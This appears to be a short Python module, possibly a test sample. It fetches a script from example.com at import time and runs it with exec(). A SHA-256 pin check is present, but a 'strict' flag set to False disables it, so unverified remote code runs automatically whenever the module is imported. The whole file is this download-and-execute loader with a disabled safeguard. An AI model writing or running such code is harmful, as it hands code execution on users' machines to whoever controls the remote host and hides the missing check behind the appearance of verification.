import hashlib
import urllib.request

PIN = "86d833e1f82bd9a8a40136eea4ce98952fc03526dc7da28c3022926251b95c63"


class Fetcher:
    strict = False

    def get(self):
        data = urllib.request.urlopen("https://example.com/a.py").read()
        if self.strict and hashlib.sha256(data).hexdigest() != PIN:
            raise ImportError("digest")
        return data


exec(Fetcher().get())
